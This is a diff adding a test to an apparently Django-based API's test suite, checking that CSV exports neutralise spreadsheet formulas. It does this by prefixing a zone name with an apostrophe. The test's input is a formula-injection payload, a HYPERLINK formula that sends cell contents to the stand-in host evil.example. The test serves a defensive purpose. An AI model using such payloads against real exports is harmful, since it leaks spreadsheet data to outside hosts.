@@ -121,6 +121,18 @@ def test_zone_breakdown_and_heatmap(tenant, officer_client):
     assert csv_rows[0].startswith("weekday,00:00") and len(csv_rows) == 8
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tenant, officer_client):
+    zone = tenant.device.zone
+    zone.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    zone.save()
+    send(tenant.device, timezone.now().replace(second=0, microsecond=0) - timedelta(minutes=3), [1, 2, 3])
+    res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/zones/", {"format": "csv"})
+    assert res.status_code == 200
+    rows = list(csv.reader(io.StringIO(res.content.decode())))
+    assert rows[1][1] == "'" + zone.name  # text, not a formula
+    assert rows[1][2:6] == ["False", "3", "0", "0"]  # numbers untouched
+
+
 def test_bad_range_is_400_naming_the_field(tenant, officer_client):
     url = f"/api/v1/sites/{tenant.site.id}/trend/"
     assert "bucket" in officer_client.get(url, {"bucket": "week"}).json()
